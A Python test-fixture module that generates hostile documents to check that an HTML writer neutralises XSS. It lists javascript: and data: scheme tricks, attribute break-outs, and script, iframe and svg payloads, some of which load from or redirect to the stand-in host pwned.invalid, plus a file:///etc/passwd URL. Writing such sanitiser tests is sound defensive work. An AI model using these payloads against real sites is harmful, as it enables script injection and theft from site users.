"""Hostile documents for the HTML writer, built from the known attack shapes.

CASES is a list of (name, source, options): each document with the to_html
options it is rendered with. Documents holding HTML payloads come once per
raw_html mode that is meant to be safe ("escape" and "omit"). Every payload that
runs a script calls alert() or sets window.__pwned; those that load something
name the host pwned.invalid.

The shapes:
- URL scheme tricks (mixed case, tab, line feed, carriage return, C0 controls
  and spaces around or inside, entity- and percent-encoded schemes, forgotten
  schemes: vbscript, data, livescript, file, blob, filesystem, intent) in every
  URL position: a link with a label, a bare link, an autolink, a figure source;
- network-path references ("//host", "\\\\host", "/\\host") where the options
  allow neither http nor https;
- attribute break-outs (quotes of both kinds, backquotes, encoded quotes,
  closing tags) through every text that reaches an attribute or the head: link
  and autolink URLs, figure source and alt text, callout kind, code language,
  footnote labels, heading text made into ids, the metadata title;
- markup payloads (script, iframe, object, embed, svg, math, style, base, meta,
  form, link, event handlers, comments, CDATA, closing tags of the writer's own
  elements) in HTML blocks, raw blocks and every text position;
- NUL and characters next to the surrogates and at the ends of the planes;
- very long and very deep inputs.
"""

ALERT = "alert(1)"

SCHEME_TRICKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "\x01javascript:alert(1)",
    "\x00javascript:alert(1)",
    "\x1f\x0c javascript:alert(1) \x1f",
    " javascript:alert(1)",
    "javascript:alert(1)//https://example.org",
    "javascript://%0aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:,alert(1)",
    "file:///etc/passwd",
    "blob:https://example.org/uuid",
    "filesystem:https://example.org/temporary/x",
    "intent://x#Intent;scheme=javascript:alert(1);end",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "https://example.org/\"onmouseover=\"alert(1)",
]

# Network-path references: they take the page's scheme and a host of their own, a backslash read as a
# slash. They are rendered with allowed_schemes narrowed to exclude http and https (NARROWED).
NETWORK_PATHS = [
    "//pwned.invalid/x",
    "\\\\pwned.invalid\\x",
    "/\\pwned.invalid/x",
    "\\/pwned.invalid/x",
    " /\t/pwned.invalid/x",
    "\x01\\\\pwned.invalid/x",
]
NARROWED = {"allowed_schemes": ["mailto"]}

# Line feeds only where the position can hold them (a link's content can).
LINK_ONLY_TRICKS = ["java\nscript:alert(1)", "javascript\n:alert(1)", "\njavascript:alert(1)"]

ATTRIBUTE_BREAKS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onerror="alert(1)',
    "' onmouseover='alert(1)' x='",
    '"/><img src=x onerror=alert(1)>',
    "`><img src=x onerror=alert(1)>",
    "&quot; onerror=alert(1) &quot;",
    "</title><script>alert(1)</script>",
]

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//pwned.invalid/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<style>@import 'https://pwned.invalid/x.css';</style>",
    "<style>*{background:url(https://pwned.invalid/x.png)}</style>",
    '<base href="https://pwned.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<link rel=stylesheet href=https://pwned.invalid/x.css>",
    "<video><source onerror=alert(1)></video>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</code></pre><script>alert(1)</script>",
    "</p></li></ul></aside><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>window.__pwned=1</script>",
    "<script>fetch('https://pwned.invalid/')</script>",
    "<script>location='https://pwned.invalid/'</script>",
]

# Characters the HTML parser treats specially (NUL) and those next to the surrogates and at the plane ends.
ODD_CHARACTERS = ["\x00", "\ud7ff", "\ue000", "\ufeff", "\ufffd", "\uffff", "\U00010000", "\U0010ffff", "\u2028"]


def quoted(value):
    """An attribute-list value that reads back as `value`, or None when none does (a `"` and a space)."""
    if '"' not in value:
        return f'"{value}"'
    if " " not in value:
        return value
    return None


def _url_cases():
    for i, url in enumerate(SCHEME_TRICKS + LINK_ONLY_TRICKS):
        yield f"link-{i}", f"See [[the label|{url}]] here.\n", {}
        yield f"bare-link-{i}", f"See [[{url}]] here.\n", {}
        auto = url if "://" in url or url.startswith("mailto:") else url.replace(":", "://", 1)
        if " " not in auto and "\n" not in auto and ">" not in auto:
            yield f"autolink-{i}", f"See <{auto}> here.\n", {}
        src = quoted(url) if "\n" not in url and "\r" not in url else None
        if src is not None:
            yield f"figure-{i}", f'::figure src={src} alt="An image" caption="Its caption"\n', {}


def _network_path_cases():
    for i, url in enumerate(NETWORK_PATHS):
        yield f"netpath-link-{i}", f"See [[the label|{url}]] here.\n", NARROWED
        yield f"netpath-bare-{i}", f"See [[{url}]] here.\n", NARROWED
        yield f"netpath-figure-{i}", f'::figure src="{url}" alt="An image" caption="Its caption"\n', NARROWED


def _attribute_cases():
    for i, text in enumerate(ATTRIBUTE_BREAKS):
        value = quoted(text)
        if value is not None:
            yield f"alt-{i}", f"::figure src=https://example.org/a.png alt={value}\n", {}
            yield f"caption-{i}", f"::figure src=x.png caption={value}\n", {}
            yield f"callout-kind-{i}", f"::callout type={value} title={value}\nBody.\n::\n", {}
        yield f"code-lang-{i}", f"```{text}\ncode\n```\n", {}
        yield f"footnote-{i}", f"A note[^{text.replace(']', ')')}].\n\n::footnotes\n[^{text.replace(']', ')')}]: {text}\n::\n", {}
        yield f"heading-id-{i}", f"# {text}\n\n# {text}\n", {"heading_ids": True, "id_prefix": "doc-"}
        yield f"meta-title-{i}", f"--- meta ---\ntitle: {text}\n---\nBody.\n", {"standalone": True}
        yield f"heading-title-{i}", f"Before.\n\n# {text}\n", {"standalone": True}
        yield f"link-url-{i}", f"[[label|https://example.org/{text}]]\n", {}


def _markup_cases():
    for i, payload in enumerate(MARKUP):
        for mode in ("escape", "omit"):
            yield f"html-block-{i}-{mode}", f"@modules html\n::html\n{payload}\n::\n", {"raw_html": mode}
            yield f"raw-block-{i}-{mode}", f"::html\n{payload}\n::\n\n::weird\n{payload}\n::\n", {"raw_html": mode}
    positions = [
        "{p}\n",
        "# {p}\n",
        "A `{p}` span and **{p}** and ~~{p}~~.\n",
        "```\n{p}\n```\n",
        "::list\n- {p}\n| {p}\n::\n",
        "::table\n| {p} | b |\n|---|---|\n| {p} | d |\n::\n",
        "::quote\n{p}\n::\n",
        "::callout\n{p}\n::\n",
        "::math\n{p}\n::\n",
        "x[^1]\n\n::footnotes\n[^1]: {p}\n::\n",
        "[[{p}|https://example.org/]]\n",
        "--- meta ---\ntitle: {p}\n---\n",
    ]
    for i, payload in enumerate(MARKUP[::3]):
        for j, shape in enumerate(positions):
            yield f"text-{i}-{j}", shape.format(p=payload), {}


def _odd_character_cases():
    for i, c in enumerate(ODD_CHARACTERS):
        yield (f"odd-{i}", f"# a{c}b\n\nText {c} [[l{c}|https://example.org/{c}]] <https://x.org/{c}> [^{c}]\n\n"
               f"::figure src=a{c}.png alt=\"a{c}\"\n\n::footnotes\n[^{c}]: n{c}\n::\n", {"heading_ids": True})


def _large_cases():
    k = 20_000
    yield "long-stars", "*" * (10 * k) + "\n", {}
    yield "long-link-openers", "[[" * (5 * k) + "\n", {}
    yield "long-label", f"[[{'a' * (10 * k)}|javascript:alert(1)]]\n", {}
    yield "long-url", f"[[x|https://example.org/{'a' * (10 * k)}\"]]\n", {}
    yield "many-refs", "".join(f"[^n{i}]" for i in range(k // 4)) + "\n", {}
    yield "many-equal-headings", "# Same\n\n" * (k // 4), {"heading_ids": True}
    yield "deep-title", "--- meta ---\ntitle: " + "[" * k + "]" * k + "\n---\n# Heading\n", {"standalone": True}
    yield "nested-inline", "**~~*" * (k // 4) + "x" + "*~~**" * (k // 4) + "\n", {}
    yield "many-items", "::list\n" + "- <script>alert(1)</script>\n" * (k // 4) + "::\n", {}


def build_cases():
    cases = [*_url_cases(), *_network_path_cases(), *_attribute_cases(), *_markup_cases(), *_odd_character_cases(),
             *_large_cases()]
    names = [name for name, _, _ in cases]
    assert len(names) == len(set(names))
    return cases


CASES = build_cases()
